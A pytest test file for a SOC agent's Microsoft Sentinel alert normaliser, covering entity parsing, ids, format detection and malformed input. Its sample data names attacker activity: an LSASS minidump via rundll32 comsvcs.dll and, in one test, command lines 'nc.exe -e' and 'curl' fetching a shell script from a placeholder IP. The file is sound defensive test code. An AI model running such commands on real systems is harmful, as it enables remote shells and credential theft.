"""Microsoft Sentinel: SecurityAlert rows, REST alerts and incidents, entities and garbage."""

from __future__ import annotations

import copy
import json
from dataclasses import dataclass, field
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from soc_agent.errors import NormalizationError
from soc_agent.ingest import (
    crowdstrike,
    elastic,
    guardduty,
    ms_graph,
    ocsf,
    sentinel,
    soc_risk,
    splunk,
    suricata,
)
from soc_agent.models import Alert, Severity
from soc_agent.models.alert import ENTITIES_TRUNCATED

FIXTURES = Path(__file__).resolve().parents[2] / "fixtures"
OWN = FIXTURES / "alerts" / "sentinel"
RECEIVED = datetime(2026, 1, 15, 12, 0, tzinfo=UTC)
OTHER_FORMATS = (crowdstrike, elastic, guardduty, ms_graph, ocsf, soc_risk, splunk, suricata)

Ent = tuple[str, str, str | None]


def load(name: str) -> dict[str, Any]:
    doc: dict[str, Any] = json.loads((OWN / name).read_text())
    return doc


def run(doc: Any, **kwargs: Any) -> Alert:
    return sentinel.normalize(doc, received_at=RECEIVED, **kwargs)


@dataclass(frozen=True)
class Case:
    file: str
    id: str
    severity: Severity
    created_at: datetime
    title: str
    rule_id: str | None
    entities: dict[Ent, dict[str, str]]  # (type, value, role) -> aliases
    techniques: list[str] = field(default_factory=list)
    tactics: list[str] = field(default_factory=list)
    product: str = "Microsoft Sentinel"
    labels: dict[str, str] = field(default_factory=dict)


SID = "s-1-5-21-1004336348-1177238915-682003330-51207"
OKONKWO = {
    "sam": "r.okonkwo",
    "nt_account": "contoso\\r.okonkwo",
    "object_id": "7b1e3c5a-9d2f-4b8e-a0c6-4f1e2d3c5b7a",
    "sid": SID,
}
VM = (
    "/subscriptions/9e8d7c6b-5a4f-4e3d-9c2b-1a0f9e8d7c6b/resourceGroups/rg-web/providers/"
    "Microsoft.Compute/virtualMachines/vm-web-03"
)
PHISH_URL = "https://contoso-payroll.example-login.net/verify?id=55120"

CASES = [
    Case(
        "la_scheduled_password_spray.json",
        "sentinel:0c8e5a1f-7d3b-4a29-b6e4-5f2d8c9a1b07",
        Severity.MEDIUM,
        datetime(2025, 5, 12, 7, 41, 18, 223190, tzinfo=UTC),  # 7 fractional digits
        "Password spray followed by successful sign-in",
        "3d7a9b21-5c4e-4f8a-9b1d-2e6f7a8c9d0e",  # ExtendedProperties "Analytic Rule Ids"
        {
            ("user", "j.whitfield@contoso.example", None): {
                "upn": "j.whitfield@contoso.example",
                "sam": "j.whitfield",
                "object_id": "5d2f8a1c-9b7e-4c3d-a6f0-2e1b8c9d7a45",
            },
            ("ip", "203.0.113.87", None): {},
            ("cloud_resource", "Microsoft Exchange Online", None): {},
        },
        ["T1110", "T1078", "T1110.003"],
        ["Credential Access", "Initial Access"],
        product="Azure Sentinel",
        labels={
            "record_kind": "alert",
            "provider_name": "ASI Scheduled Alerts",
            "product_component_name": "Scheduled Alerts",
            "tactics": "CredentialAccess,InitialAccess",
            "is_incident": "false",
            "compromised_entity": "j.whitfield@contoso.example",
        },
    ),
    Case(
        "la_mde_lsass_minidump.json",
        "sentinel:8b1d4e7a-2c5f-4a90-b3e6-7d0c9f2a5e18",
        Severity.HIGH,
        datetime(2025, 5, 14, 13, 5, 2, 771654, tzinfo=UTC),
        "Suspicious access to LSASS service",
        "WindowsDefenderAtp",  # no analytic rule: AlertType
        {
            ("host", "fin-ws-0231", None): {
                "fqdn": "fin-ws-0231.corp.contoso.example",
                "mde_device_id": "4f2a9c1d8e7b6a5f4e3d2c1b0a9f8e7d6c5b4a39",
            },
            ("user", "r.okonkwo", None): OKONKWO,
            ("user", "r.okonkwo", "actor"): OKONKWO,  # the process's Account ($ref)
            ("process", "rundll32.exe", None): {},
            ("process", "powershell.exe", "parent"): {},  # top-level $ref 8 adds no repeat
            ("file_hash", "9f1c2e3d4b5a69788796a5b4c3d2e1f0a9b8c7d6", None): {},
            (
                "file_hash",
                "5b1e0c7a93d2f4e8a6b0c1d2e3f4a5b6c7d8e9f0a1b2c3d4e5f6a7b8c9d0e1f2",
                None,
            ): {},
            ("ip", "10.20.31.44", None): {},
        },
        ["T1003", "T1003.001"],
        ["Credential Access"],
        product="Microsoft Defender Advanced Threat Protection",
        labels={
            "entities_unmapped": "registry-key=1",
            "ingest.entities_dropped": "1",  # the dangling {"$ref": "42"}
            "vendor_original_id": "da638827349651234567_-1502284713",
            "alert_link": "https://security.microsoft.com/alerts/da638827349651234567_-1502284713",
        },
    ),
    Case(
        "la_mdo_phish_mailbox.json",
        "sentinel:2e7c1a9f-6b3d-4f05-8a2e-c4d9b1f7e360",
        Severity.INFORMATIONAL,
        datetime(2025, 5, 20, 9, 12, 40, tzinfo=UTC),
        "Email messages containing phish URLs removed after delivery",
        "OfficeATP",
        {
            ("email", "a.moreau@contoso.example", None): {},
            ("user", "a.moreau@contoso.example", None): {
                "upn": "a.moreau@contoso.example",
                "email": "a.moreau@contoso.example",
                "object_id": "c3d4e5f6-a7b8-4c9d-8e0f-1a2b3c4d5e6f",
            },
            ("email", "payroll@contoso-hr-notice.example", "sender"): {},
            ("email", "a.moreau@contoso.example", "recipient"): {},
            ("ip", "198.51.100.201", "source"): {},
            ("url", PHISH_URL, None): {},
        },
        [],  # Techniques is ""
        ["Initial Access"],
        product="Office 365 Advanced Threat Protection",
        labels={"is_incident": "false", "status": "Resolved"},  # IsIncident 0
    ),
    Case(
        "la_mdc_dns_projected.json",
        "sentinel:c51f0a7e-3d8b-4c26-9e1a-b7f4d2c8e093",
        Severity.MEDIUM,  # "Unknown" never hides an alert
        datetime(2025, 6, 1, 2, 47, 31, 500000, tzinfo=UTC),
        "Communication with suspicious domain identified by threat intelligence",
        "AzureDNS_ThreatIntelSuspectDomain",
        {
            ("cloud_resource", VM, None): {},
            ("host", "vm-web-03", None): {
                "azure_resource_id": VM.lower(),
                "oms_agent_id": "5a6b7c8d-9e0f-4a1b-8c2d-3e4f5a6b7c8d",
            },
            ("ip", "10.4.0.7", None): {},  # the host's IpInterfaces
            ("ip", "10.4.0.7", "source"): {},  # the dns entity's HostIpAddress ($ref)
            ("domain", "kx7q2m9d.dyn-cache.example", None): {},
            ("ip", "192.0.2.66", None): {},
        },
        ["T1071", "T1568"],  # comma-separated, not a JSON array
        ["Command and Control"],
        product="Azure Security Center",
        labels={"severity_raw": "Unknown", "confidence_score": "0.72"},
    ),
    Case(
        "rest_alert_role_assignment.json",
        "sentinel:71d3b9e5-0a2c-4f6e-8b1d-9c7a5e3f2b04",
        Severity.HIGH,
        datetime(2025, 6, 2, 21, 14, 9, 441000, tzinfo=UTC),
        "Privileged role assigned outside change window",
        "b4c5d6e7-f809-4a1b-8c2d-3e4f5a6b7c8d_0e9d8c7b-6a5f-4e3d-8c2b-1a0f9e8d7c6b",
        {},  # the REST alert carries no entities
        ["T1098"],
        ["Persistence", "Privilege Escalation"],
        product="Azure Sentinel",
        labels={"record_kind": "alert", "confidence_level": "Unknown", "status": "New"},
    ),
    Case(
        "rest_incident_phishing.json",
        "sentinel:incident:e3a1c5b7-9d2f-4e6a-8b0c-1d3f5a7c9e2b",
        Severity.LOW,
        datetime(2025, 6, 3, 10, 47, 30, 122778, tzinfo=UTC),
        "Phishing link clicked followed by suspicious Office child process",
        "3d7a9b21-5c4e-4f8a-9b1d-2e6f7a8c9d0e",  # tail of relatedAnalyticRuleIds[0]
        {},
        ["T1566", "T1204"],
        ["Initial Access", "Execution"],
        product="Azure Sentinel",
        labels={
            "record_kind": "incident",
            "incident_number": "4127",
            "alerts_count": "3",
            "status": "Active",
            "incident_labels": "phishing",
            "owner": "soc.tier2@contoso.example",
        },
    ),
]


def test_every_fixture_is_in_the_table() -> None:
    assert {c.file for c in CASES} == {p.name for p in OWN.glob("*.json")}


@pytest.mark.parametrize("case", CASES, ids=lambda c: c.file)
def test_fixture_normalises_to_expected_alert(case: Case) -> None:
    doc = load(case.file)
    pristine = copy.deepcopy(doc)
    alert = run(doc)
    assert doc == pristine  # normalize does not mutate its input
    assert alert.original == pristine
    assert (alert.format, alert.id, alert.source_id) == ("sentinel", case.id, case.id[9:])
    assert alert.severity is case.severity
    assert alert.created_at == case.created_at
    assert alert.created_at.tzinfo is UTC
    assert alert.title == case.title
    assert alert.rule.id == case.rule_id
    assert alert.vendor == "Microsoft"
    assert alert.product == case.product
    got = {(e.type.value, e.value, e.role): e.aliases for e in alert.entities}
    assert got == case.entities
    assert alert.techniques == case.techniques
    assert alert.tactics == case.tactics
    assert alert.received_at == RECEIVED
    for key, value in case.labels.items():
        assert alert.labels.get(key) == value, key


def test_attributes_carry_the_entity_details() -> None:
    alert = run(load("la_mde_lsass_minidump.json"))
    by_key = {(e.type.value, e.value, e.role): e.attributes for e in alert.entities}
    process = by_key[("process", "rundll32.exe", None)]
    assert process["pid"] == "7164"
    assert process["command_line"].startswith("rundll32.exe C:\\Windows\\System32\\comsvcs.dll")
    sha256 = "5b1e0c7a93d2f4e8a6b0c1d2e3f4a5b6c7d8e9f0a1b2c3d4e5f6a7b8c9d0e1f2"
    assert by_key[("file_hash", sha256, None)] == {
        "algorithm": "sha256",
        "file_name": "rundll32.exe",
        "path": "C:\\Windows\\System32",
    }
    assert by_key[("host", "fin-ws-0231", None)]["os"] == "Windows"
    spray = run(load("la_scheduled_password_spray.json"))
    ip = next(e for e in spray.entities if e.type.value == "ip")
    assert ip.attributes == {"country": "NL", "asn": "64511"}


# --- ids ----------------------------------------------------------------------------------------


def test_redelivered_and_updated_rows_keep_the_alert_id() -> None:
    doc = load("la_scheduled_password_spray.json")
    later = {**doc, "TimeGenerated": "2025-05-12T09:00:00Z", "Status": "InProgress"}
    assert run(later).id == run(doc).id == run(json.loads(json.dumps(doc))).id


def test_rest_view_of_an_alert_gets_the_row_id() -> None:
    row = load("la_scheduled_password_spray.json")
    rest = load("rest_alert_role_assignment.json")
    rest["properties"]["systemAlertId"] = row["SystemAlertId"]
    assert run(rest).id == run(row).id
    del rest["properties"]["systemAlertId"]  # the resource name is the same id
    rest["name"] = row["SystemAlertId"]
    assert run(rest).id == run(row).id


# --- detection ----------------------------------------------------------------------------------


def other_fixtures() -> list[Path]:
    alerts = [p for p in (FIXTURES / "alerts").glob("*/*.json") if p.parent.name != "sentinel"]
    return sorted(alerts + list((FIXTURES / "wazuh").glob("*.json")))


@pytest.mark.parametrize("name", sorted(p.name for p in OWN.glob("*.json")))
def test_matches_own_fixtures_and_no_other_format_does(name: str) -> None:
    doc = load(name)
    assert sentinel.matches(doc)
    for module in OTHER_FORMATS:
        assert not module.matches(doc), module.FORMAT


@pytest.mark.parametrize("path", other_fixtures(), ids=lambda p: f"{p.parent.name}/{p.name}")
def test_does_not_match_other_formats_fixtures(path: Path) -> None:
    data = json.loads(path.read_text())
    for doc in data if isinstance(data, list) else [data]:
        assert not (isinstance(doc, dict) and sentinel.matches(doc))


def test_matches_a_row_whose_type_column_was_projected_away() -> None:
    doc = load("la_scheduled_password_spray.json")
    del doc["Type"]
    assert sentinel.matches(doc)
    assert not sentinel.matches({"SystemAlertId": "x"})  # one column is not enough
    assert not sentinel.matches({"Type": "SecurityIncident", "Title": "x"})
    assert not sentinel.matches({"kind": "Account", "properties": {}})


# --- garbage ------------------------------------------------------------------------------------

ROW = "la_scheduled_password_spray.json"
MDE = "la_mde_lsass_minidump.json"
REST = "rest_alert_role_assignment.json"
INCIDENT = "rest_incident_phishing.json"


def _without(doc: dict[str, Any], *keys: str) -> dict[str, Any]:
    return {k: v for k, v in doc.items() if k not in keys}


def _props(doc: dict[str, Any], **changes: Any) -> dict[str, Any]:
    props = {**doc["properties"], **changes}
    return {**doc, "properties": {k: v for k, v in props.items() if v is not _DROP}}


_DROP = object()

GARBAGE: list[tuple[str, str, Any, str]] = [
    # (fixture, what, change, text the error must contain)
    (ROW, "no id", lambda d: _without(d, "SystemAlertId"), "'SystemAlertId'"),
    (ROW, "id object", lambda d: {**d, "SystemAlertId": {"a": 1}}, "'SystemAlertId'"),
    (ROW, "id list", lambda d: {**d, "SystemAlertId": ["x"]}, "'SystemAlertId'"),
    (ROW, "id bool", lambda d: {**d, "SystemAlertId": True}, "'SystemAlertId'"),
    (ROW, "id too long", lambda d: {**d, "SystemAlertId": "a" * 300}, "alert id is 300"),
    (
        ROW,
        "no time",
        lambda d: _without(d, "TimeGenerated", "StartTime", "ProcessingEndTime"),
        "'TimeGenerated'",
    ),
    (ROW, "bad time", lambda d: {**d, "TimeGenerated": "yesterday"}, "'TimeGenerated'"),
    (ROW, "time number", lambda d: {**d, "TimeGenerated": 1715500000}, "'TimeGenerated'"),
    (ROW, "time object", lambda d: {**d, "TimeGenerated": {}}, "'TimeGenerated'"),
    (ROW, "no title", lambda d: _without(d, "DisplayName", "AlertName"), "'DisplayName'"),
    (ROW, "title list", lambda d: {**d, "DisplayName": ["x"]}, "'DisplayName'"),
    (ROW, "severity object", lambda d: {**d, "AlertSeverity": {}}, "'AlertSeverity'"),
    (ROW, "entities not json", lambda d: {**d, "Entities": "[{"}, "'Entities' is not valid"),
    (ROW, "entities object", lambda d: {**d, "Entities": '{"a": 1}'}, "'Entities' must be"),
    (ROW, "entities number", lambda d: {**d, "Entities": 7}, "'Entities' must be"),
    (ROW, "entity not object", lambda d: {**d, "Entities": '["x"]'}, "'Entities[0]'"),
    (
        ROW,
        "entity field object",
        lambda d: {**d, "Entities": json.dumps([{"Type": "host", "HostName": {"a": 1}}])},
        "'Entities[0].HostName'",
    ),
    (
        MDE,
        "nested field bool",
        lambda d: {
            **d,
            "Entities": json.dumps(
                [{"Type": "process", "ImageFile": {"Name": True, "Type": "file"}}]
            ),
        },
        "'Entities[0].ImageFile.Name'",
    ),
    (ROW, "entities nested deep", lambda d: {**d, "Entities": "[" * 100_000}, "'Entities'"),
    (ROW, "extended not json", lambda d: {**d, "ExtendedProperties": "{x"}, "ExtendedProperties"),
    (
        ROW,
        "extended array",
        lambda d: {**d, "ExtendedProperties": "[1, 2]"},
        "'ExtendedProperties' must be a JSON object",
    ),
    (
        ROW,
        "rule ids not json",
        lambda d: {**d, "ExtendedProperties": json.dumps({"Analytic Rule Ids": "[oops"})},
        "'ExtendedProperties.Analytic Rule Ids'",
    ),
    (ROW, "techniques not json", lambda d: {**d, "Techniques": '["T1110"'}, "'Techniques'"),
    (ROW, "techniques object", lambda d: {**d, "Techniques": {"a": 1}}, "'Techniques'"),
    (ROW, "subtechniques json object", lambda d: {**d, "SubTechniques": "[{]"}, "SubTechniques"),
    (ROW, "tactics object", lambda d: {**d, "Tactics": {"a": 1}}, "'Tactics'"),
    (ROW, "confidence text", lambda d: {**d, "ConfidenceScore": "high"}, "'ConfidenceScore'"),
    (REST, "properties string", lambda d: {**d, "properties": "x"}, "'properties'"),
    (REST, "properties list", lambda d: {**d, "properties": [{}]}, "'properties'"),
    (
        REST,
        "no rest id",
        lambda d: _without(_props(d, systemAlertId=_DROP), "name"),
        "'properties.systemAlertId'",
    ),
    (
        REST,
        "no rest title",
        lambda d: _props(d, alertDisplayName=_DROP, friendlyName=_DROP),
        "'properties.alertDisplayName'",
    ),
    (
        REST,
        "no rest time",
        lambda d: _props(d, timeGenerated=_DROP, startTimeUtc=_DROP, processingEndTime=_DROP),
        "'properties.timeGenerated'",
    ),
    (REST, "rest tactics object", lambda d: _props(d, tactics={"a": 1}), "'properties.tactics'"),
    (INCIDENT, "incident properties list", lambda d: {**d, "properties": []}, "'properties'"),
    (INCIDENT, "no incident name", lambda d: _without(d, "name"), "'name'"),
    (INCIDENT, "no incident title", lambda d: _props(d, title=_DROP), "'properties.title'"),
    (
        INCIDENT,
        "incident bad time",
        lambda d: _props(d, createdTimeUtc="13/45/2025"),
        "'properties.createdTimeUtc'",
    ),
]


@pytest.mark.parametrize(("file", "what", "change", "reason"), GARBAGE, ids=lambda v: v)
def test_garbage_is_a_normalization_error_naming_the_field(
    file: str, what: str, change: Any, reason: str
) -> None:
    with pytest.raises(NormalizationError) as caught:
        run(change(load(file)))
    assert reason in str(caught.value), what
    assert str(caught.value).startswith("sentinel:")


@pytest.mark.parametrize(
    ("word", "expected", "raw"),
    [
        ("high", Severity.HIGH, None),
        ("Informational", Severity.INFORMATIONAL, None),
        ("Critical-ish", Severity.MEDIUM, "Critical-ish"),
        (3, Severity.MEDIUM, "3"),
        ("", Severity.MEDIUM, "missing"),
        (None, Severity.MEDIUM, "missing"),
    ],
)
def test_odd_severities_never_hide_an_alert(word: Any, expected: Severity, raw: str | None) -> None:
    alert = run({**load(ROW), "AlertSeverity": word})
    assert alert.severity is expected
    assert alert.labels.get("severity_raw") == raw
    rest = load(REST)
    rest_alert = run(_props(rest, severity=word))
    assert rest_alert.severity is expected


@pytest.mark.parametrize(
    "entities",
    [
        [{"$id": "1", "$ref": "1"}],  # refers to itself
        [{"$ref": "2"}, {"$id": "2", "$ref": "3"}, {"$id": "3", "$ref": "2"}],  # a cycle
        [{"$ref": {"a": 1}}, {"$ref": None}, {"$ref": True}],  # refs that are not ids
        [{"$id": "1", "Type": "process", "ParentProcess": {"$ref": "1"}}],  # its own parent
        [{"$id": "1", "Type": "process", "ImageFile": {"$ref": "99"}, "CommandLine": "a.exe"}],
    ],
)
def test_reference_cycles_and_dangling_refs_do_not_crash(entities: list[Any]) -> None:
    alert = run({**load(ROW), "Entities": json.dumps(entities)})
    assert all(e.type.value != "user" for e in alert.entities)
    assert alert.id == "sentinel:0c8e5a1f-7d3b-4a29-b6e4-5f2d8c9a1b07"


def test_a_long_reference_chain_is_cut() -> None:
    chain = [{"$id": str(i), "$ref": str(i + 1)} for i in range(50)]
    chain.append({"$id": "50", "Type": "ip", "Address": "192.0.2.9"})
    alert = run({**load(ROW), "Entities": json.dumps([{"$ref": "0"}, *chain[:-1], chain[-1]])})
    assert ("ip", "192.0.2.9") in {(e.type.value, e.value) for e in alert.entities}
    assert int(alert.labels["ingest.entities_dropped"]) >= 1  # the 50-hop chain is not followed


def test_entity_cap_is_respected_and_the_rest_counted() -> None:
    many = [
        {"$id": str(i), "Type": "ip", "Address": f"10.0.{i // 250}.{i % 250}"} for i in range(5000)
    ]
    alert = run({**load(ROW), "Entities": json.dumps(many)}, max_entities=5)
    assert len(alert.entities) == 5
    assert alert.labels[ENTITIES_TRUNCATED] == "4995"


def test_process_without_image_is_named_by_its_command_line() -> None:
    entities = [
        {
            "$id": "1",
            "Type": "process",
            "ProcessId": 88,
            "CommandLine": '"C:\\Tools\\x y\\nc.exe" -e',
        },
        {"$id": "2", "Type": "process", "CommandLine": "/usr/bin/curl -s http://192.0.2.1/a.sh"},
        {"$id": "3", "Type": "process", "CommandLine": "   "},
    ]
    alert = run({**load(ROW), "Entities": json.dumps(entities)})
    names = {e.value: e.attributes.get("pid") for e in alert.entities if e.type.value == "process"}
    assert names == {"nc.exe": "88", "curl": None}


def test_dynamic_columns_exported_as_json_are_read_like_strings() -> None:
    doc = load(ROW)
    as_json = {
        **doc,
        "Entities": json.loads(doc["Entities"]),
        "ExtendedProperties": json.loads(doc["ExtendedProperties"]),
        "Techniques": json.loads(doc["Techniques"]),
    }
    a, b = run(doc), run(as_json)
    assert (a.id, a.rule.id, a.techniques, a.entities) == (
        b.id,
        b.rule.id,
        b.techniques,
        b.entities,
    )


def test_user_from_account_name_and_domain_only() -> None:
    entities = [{"$id": "2", "Type": "account", "Name": "svc_backup", "NTDomain": "CONTOSO"}]
    [user] = run({**load(ROW), "Entities": json.dumps(entities)}).entities
    assert (user.value, user.aliases) == (
        "svc_backup",
        {"sam": "svc_backup", "nt_account": "contoso\\svc_backup"},
    )


def test_host_name_given_as_fqdn_is_not_doubled() -> None:
    entities = [{"Type": "host", "HostName": "db-07.corp.example", "DnsDomain": "corp.example"}]
    [host] = run({**load(ROW), "Entities": json.dumps(entities)}).entities
    assert (host.value, host.aliases) == (
        "db-07.corp.example",
        {"fqdn": "db-07.corp.example", "hostname": "db-07"},
    )


ODD_VALUES: list[Any] = [None, {}, [], True, 0, -1.5, float("inf"), "", " ", "x" * 5000, "[", "{}"]


@pytest.mark.parametrize("file", [p.name for p in sorted(OWN.glob("*.json"))])
def test_any_odd_top_level_value_gives_an_alert_or_a_normalization_error(file: str) -> None:
    doc = load(file)
    targets: list[tuple[dict[str, Any], str]] = [(doc, k) for k in doc]
    if isinstance(doc.get("properties"), dict):
        targets += [(doc["properties"], k) for k in doc["properties"]]
    for holder, key in targets:
        for odd in ODD_VALUES:
            original = holder[key]
            holder[key] = odd
            try:
                result = run(doc)
                assert isinstance(result, Alert)
            except NormalizationError:
                pass
            finally:
                holder[key] = original
